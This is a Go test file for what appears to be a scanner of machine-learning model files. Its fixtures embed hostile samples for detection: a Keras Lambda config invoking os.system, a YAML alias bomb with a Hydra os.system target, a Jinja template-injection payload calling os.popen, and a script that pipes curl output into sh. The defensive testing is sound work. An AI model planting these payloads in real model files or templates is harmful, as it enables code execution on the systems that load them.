package scan

import (
	"context"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/aisecops/aisec/internal/detect/list"
	"github.com/aisecops/aisec/internal/finding"
	"github.com/aisecops/aisec/internal/testgen"
)

// kerasLambdaConfig is a Keras 3 config.json whose Lambda layer names os.system
// (the CVE-2025-1550 family).
const kerasLambdaConfig = `{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
 {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 1]}},
 {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function":
  {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}}]}}`

func utf16le(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, u)
	}
	return out
}

func kerasZip(config []byte) []byte {
	return testgen.WriteZip([]testgen.ZipEntry{
		{Name: "metadata.json", Data: []byte(`{"keras_version": "3.3.3", "date_saved": "2024-05-01"}`)},
		{Name: "config.json", Data: config},
	}, testgen.ZipTricks{})
}

// TestHubFormatsEndToEnd covers what only the whole pipeline decides: routing by layout and
// content, fail-closed statuses and repository-level findings.
func TestHubFormatsEndToEnd(t *testing.T) {
	tests := []struct {
		name     string
		file     string
		data     []byte
		wantRule string // a finding of this rule at high or above; "" for none above low
		status   finding.Status
	}{
		{"keras config in UTF-8", "m.keras", kerasZip([]byte(kerasLambdaConfig)), "AISEC-KRS-003", finding.StatusScanned},
		// json.loads(bytes) decodes UTF-16 without a BOM: the member name decides, not the content.
		{"keras config in UTF-16", "m.keras", kerasZip(utf16le(kerasLambdaConfig)), "AISEC-KRS-003", finding.StatusScanned},
		{"benign keras", "ok.keras", kerasZip([]byte(`{"module": "keras", "class_name": "Sequential", "config": {"layers": [
			{"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}]}}`)), "", finding.StatusScanned},
		// PyYAML shares aliased nodes, so Hydra loads this instantly; we refuse to expand it and
		// must say so instead of calling it plain text.
		{"YAML alias bomb", "conf.yaml", []byte("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n" +
			"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n" +
			"e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nmodel: {_target_: os.system}\n"), "", finding.StatusError},
		{"chat template file", "chat_template.jinja", []byte("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
			"AISEC-TPL-001", finding.StatusScanned},
		{"prose named yaml", "notes.yaml", []byte("just some words\n"), "", finding.StatusSkipped},
		// Keras 3 builds the model from config.json before it looks at the weights.
		{"zip with config.json and npz weights", "m.zip", testgen.WriteZip([]testgen.ZipEntry{
			{Name: "config.json", Data: []byte(kerasLambdaConfig)}, {Name: "model.weights.npz", Data: []byte("PK\x05\x06" + strings.Repeat("\x00", 18))},
		}, testgen.ZipTricks{}), "AISEC-KRS-003", finding.StatusScanned},
		{"script inside a model archive", "m.zip", testgen.WriteZip([]testgen.ZipEntry{
			{Name: "run.sh", Data: []byte("#!/bin/sh\ncurl http://example.invalid/x | sh\n")},
		}, testgen.ZipTricks{}), "AISEC-EXE-001", finding.StatusScanned},
		{"Helm template", "deployment.yaml", []byte("{{- if .Values.enabled }}\nkind: Deployment\n{{- end }}\n"), "", finding.StatusSkipped},
		{"large tokenizer vocabulary", "tokenizer.json", []byte(`{"model": {"vocab": {"` + strings.Repeat("a", maxTextBytes) + `": 0}}}`),
			"", finding.StatusSkipped},
		{"large configuration", "big.json", []byte(`{"a": "` + strings.Repeat("a", maxTextBytes) + `"}`), "", finding.StatusPartial},
		{"BERT vocabulary", "vocab.txt", []byte("[PAD]\n[unused0]\n[CLS]\n"), "", finding.StatusSkipped},
		{"starts like JSON, no JSON name", "labels", []byte("[background]\ncat\n"), "", finding.StatusSkipped},
		{"coding dataset", "train.jsonl", []byte(`{"messages": [{"role": "user", "content": "import os; os.system('ls')"}]}` + "\n"),
			"", finding.StatusSkipped},
		{"broken file named JSON", "config.json", []byte(`{"model_type": "x",`), "", finding.StatusError},
		{"deep JSON without a JSON name", "conf", []byte(strings.Repeat("[", 100000)), "", finding.StatusError},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), tt.file)
			if err := os.WriteFile(path, tt.data, 0o644); err != nil {
				t.Fatal(err)
			}
			rep := scanOne(t, path)
			checkHigh(t, rep, tt.wantRule)
			if got := rep.Files[0].Status; got != tt.status {
				t.Errorf("status %s, want %s: %s", got, tt.status, summary(rep))
			}
		})
	}
}

func checkHigh(t *testing.T, rep *finding.Report, rule string) {
	t.Helper()
	for _, f := range rep.Findings {
		if f.Rule == rule && f.Severity >= finding.High {
			return
		}
		if rule == "" && f.Severity > finding.Low && f.Rule != RuleIncomplete.ID {
			t.Errorf("unexpected finding: %s", summary(rep))
			return
		}
	}
	if rule != "" {
		t.Errorf("want %s at high or above, got %s", rule, summary(rep))
	}
}

// TestHubCache scans a Hugging Face cache: files are reached through snapshots/ (blobs/ is not
// walked twice), findings name the model and revision, and repository checks run per folder.
func TestHubCache(t *testing.T) {
	root := t.TempDir()
	const rev = "0123456789abcdef0123456789abcdef01234567"
	repo := filepath.Join(root, "models--org--tiny")
	snap := filepath.Join(repo, "snapshots", rev)
	for _, d := range []string{filepath.Join(repo, "blobs"), snap} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		"config.json":       `{"model_type": "tiny", "architectures": ["Tiny"], "auto_map": {"AutoModel": "modeling_tiny.Tiny"}}`,
		"modeling_tiny.py":  "import os\nimport torch\n\nclass Tiny(torch.nn.Module):\n    pass\n",
		"pytorch_model.bin": "\x80\x02}q\x00.",
		"model.safetensors": "\x02\x00\x00\x00\x00\x00\x00\x00{}",
	}
	for name, content := range files {
		blob := filepath.Join(repo, "blobs", name+".blob")
		if err := os.WriteFile(blob, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join("..", "..", "blobs", name+".blob"), filepath.Join(snap, name)); err != nil {
			t.Fatal(err)
		}
	}
	rep, err := New(Options{FollowSymlinks: true}, list.Default(list.Options{})).Run(context.Background(), []string{root})
	if err != nil {
		t.Fatal(err)
	}
	rules := map[string]bool{}
	for _, f := range rep.Findings {
		rules[f.Rule] = true
		if f.Model == nil || f.Model.ID != "org/tiny" || f.Model.Revision != rev {
			t.Errorf("finding %s does not name the model: %+v", f.Rule, f.Model)
		}
	}
	for _, want := range []string{"AISEC-HF-001", "AISEC-HF-006", "AISEC-HF-007"} {
		if !rules[want] {
			t.Errorf("missing %s: %s", want, summary(rep))
		}
	}
	scanned := 0
	for _, f := range rep.Files {
		if f.Status != finding.StatusSkipped {
			scanned++
		}
	}
	if scanned != len(files) {
		t.Errorf("want each of the %d files analysed once, got %d: %+v", len(files), scanned, rep.Files)
	}
}

// TestONNXExternalDataLinks: external data named inside the model directory but reached through
// a symbolic link that leaves it is reported like a lexical escape; a regular file is not.
func TestONNXExternalDataLinks(t *testing.T) {
	model, err := os.ReadFile(filepath.Join("..", "format", "onnx", "testdata", "external_benign.onnx"))
	if err != nil {
		t.Fatal(err)
	}
	outside := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(outside, []byte("not weights"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, link := range []bool{false, true} {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "model.onnx"), model, 0o644); err != nil {
			t.Fatal(err)
		}
		data := filepath.Join(dir, "external_benign.bin")
		if link {
			err = os.Symlink(outside, data)
		} else {
			err = os.WriteFile(data, make([]byte, 64), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
		for _, target := range []string{dir, filepath.Join(dir, "model.onnx")} {
			rep := scanOne(t, target)
			want := ""
			if link {
				want = "AISEC-ONNX-001"
			}
			checkHigh(t, rep, want)
		}
	}
}

// TestHubFixtures covers routing the sniff window cannot decide (see testdata/hub/README.md).
func TestHubFixtures(t *testing.T) {
	for file, rule := range map[string]string{
		"userblock4096.h5":  "AISEC-KRS-001",
		"gguf_userblock.h5": "AISEC-KRS-001",
		"saved_model.pbtxt": "AISEC-TF-001",
	} {
		t.Run(file, func(t *testing.T) {
			checkHigh(t, scanOne(t, filepath.Join("testdata", "hub", file)), rule)
		})
	}
}
